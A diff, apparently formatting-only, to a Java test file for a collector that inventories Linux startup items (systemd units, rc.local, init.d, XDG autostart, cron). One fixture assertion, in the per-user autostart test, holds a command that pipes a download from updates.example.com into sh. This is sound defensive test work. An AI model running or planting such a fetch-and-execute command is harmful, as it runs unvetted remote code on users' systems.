@@ -23,6 +23,7 @@ class StartupItemCollectorTest {
 
     @RegisterExtension
     final FixtureRoot fixture = new FixtureRoot();
+
     Path root;
     List<ObjectNode> docs;
 
@@ -38,18 +39,19 @@ class StartupItemCollectorTest {
 
     @Test
     void everyMechanismContributesItsItems() {
-        assertThat(Fields.column(docs, "startup_item.location")).containsExactlyInAnyOrder(
-                "/etc/systemd/system/multi-user.target.wants/ssh.service",
-                "/etc/systemd/system/multi-user.target.wants/web.service",
-                "/etc/systemd/system/multi-user.target.wants/remote-fs.target",
-                "/etc/rc.local",
-                "/etc/init.d/legacy-daemon",
-                "/etc/xdg/autostart/tray.desktop",
-                "/etc/xdg/autostart/hidden.desktop",
-                "/home/alice/.config/autostart/notes.desktop",
-                "/home/bob/.config/autostart/updater.desktop",
-                "/etc/crontab:8",
-                "/var/spool/cron/crontabs/alice:4");
+        assertThat(Fields.column(docs, "startup_item.location"))
+                .containsExactlyInAnyOrder(
+                        "/etc/systemd/system/multi-user.target.wants/ssh.service",
+                        "/etc/systemd/system/multi-user.target.wants/web.service",
+                        "/etc/systemd/system/multi-user.target.wants/remote-fs.target",
+                        "/etc/rc.local",
+                        "/etc/init.d/legacy-daemon",
+                        "/etc/xdg/autostart/tray.desktop",
+                        "/etc/xdg/autostart/hidden.desktop",
+                        "/home/alice/.config/autostart/notes.desktop",
+                        "/home/bob/.config/autostart/updater.desktop",
+                        "/etc/crontab:8",
+                        "/var/spool/cron/crontabs/alice:4");
     }
 
     @Test
@@ -62,8 +64,10 @@ class StartupItemCollectorTest {
         assertThat(text(ssh, "process.command_line")).isEqualTo("/usr/sbin/sshd -D $SSHD_OPTS");
         assertThat(text(ssh, "user.name")).isEqualTo("root");
         assertThat(bool(ssh, "startup_item.privileged")).isTrue();
-        assertThat(text(at("/etc/systemd/system/multi-user.target.wants/web.service"), "user.name")).isEqualTo("www-data");
-        assertThat(has(at("/etc/systemd/system/multi-user.target.wants/remote-fs.target"), "process")).isFalse();
+        assertThat(text(at("/etc/systemd/system/multi-user.target.wants/web.service"), "user.name"))
+                .isEqualTo("www-data");
+        assertThat(has(at("/etc/systemd/system/multi-user.target.wants/remote-fs.target"), "process"))
+                .isFalse();
     }
 
     @Test
@@ -72,7 +76,8 @@ class StartupItemCollectorTest {
         assertThat(text(rcLocal, "startup_item.source")).isEqualTo("rc_local");
         assertThat(text(rcLocal, "process.executable")).isEqualTo("/etc/rc.local");
         Files.setPosixFilePermissions(root.resolve("etc/rc.local"), PosixFilePermissions.fromString("rw-r--r--"));
-        assertThat(Fields.all(new StartupItemCollector(root).collect(), "startup_item.source", "rc_local")).isEmpty();
+        assertThat(Fields.all(new StartupItemCollector(root).collect(), "startup_item.source", "rc_local"))
+                .isEmpty();
     }
 
     @Test
@@ -90,9 +95,12 @@ class StartupItemCollectorTest {
         assertThat(text(tray, "startup_item.name")).isEqualTo("Tray Applet");
         assertThat(text(tray, "startup_item.source")).isEqualTo("xdg_autostart");
         assertThat(text(tray, "startup_item.scope")).isEqualTo("machine");
-        assertThat(text(tray, "process.command_line")).as("field codes removed").isEqualTo("/usr/bin/tray-app --minimized");
+        assertThat(text(tray, "process.command_line"))
+                .as("field codes removed")
+                .isEqualTo("/usr/bin/tray-app --minimized");
         assertThat(has(tray, "user")).isFalse();
-        assertThat(bool(at("/etc/xdg/autostart/hidden.desktop"), "startup_item.enabled")).isFalse();
+        assertThat(bool(at("/etc/xdg/autostart/hidden.desktop"), "startup_item.enabled"))
+                .isFalse();
     }
 
     @Test
@@ -100,12 +108,17 @@ class StartupItemCollectorTest {
         ObjectNode notes = at("/home/alice/.config/autostart/notes.desktop");
         assertThat(text(notes, "startup_item.scope")).isEqualTo("user");
         assertThat(text(notes, "user.name")).isEqualTo("alice");
-        assertThat(bool(notes, "startup_item.enabled")).as("X-GNOME-Autostart-enabled=false").isFalse();
+        assertThat(bool(notes, "startup_item.enabled"))
+                .as("X-GNOME-Autostart-enabled=false")
+                .isFalse();
         assertThat(text(notes, "process.command_line")).isEqualTo("sync-notes --background");
         ObjectNode updater = at("/home/bob/.config/autostart/updater.desktop");
-        assertThat(texts(updater, "process.args")).containsExactly("sh", "-c", "curl -s http://updates.example.com/u | sh");
+        assertThat(texts(updater, "process.args"))
+                .containsExactly("sh", "-c", "curl -s http://updates.example.com/u | sh");
         assertThat(text(updater, "process.executable")).isEqualTo("/usr/bin/sh");
-        assertThat(bool(updater, "startup_item.privileged")).as("bob is in sudo").isTrue();
+        assertThat(bool(updater, "startup_item.privileged"))
+                .as("bob is in sudo")
+                .isTrue();
     }
 
     @Test
@@ -120,12 +133,14 @@ class StartupItemCollectorTest {
     }
 
     @ParameterizedTest
-    @CsvSource(value = {
-        "/usr/bin/app %U; /usr/bin/app",
-        "app --file %f --icon %i; app --file --icon",
-        "app 100%%; app 100%",
-        "app %x; app %x",
-    }, delimiter = ';')
+    @CsvSource(
+            value = {
+                "/usr/bin/app %U; /usr/bin/app",
+                "app --file %f --icon %i; app --file --icon",
+                "app 100%%; app 100%",
+                "app %x; app %x",
+            },
+            delimiter = ';')
     void desktopFieldCodesAreRemoved(String exec, String expected) {
         assertThat(StartupItemCollector.withoutFieldCodes(exec)).isEqualTo(expected);
     }
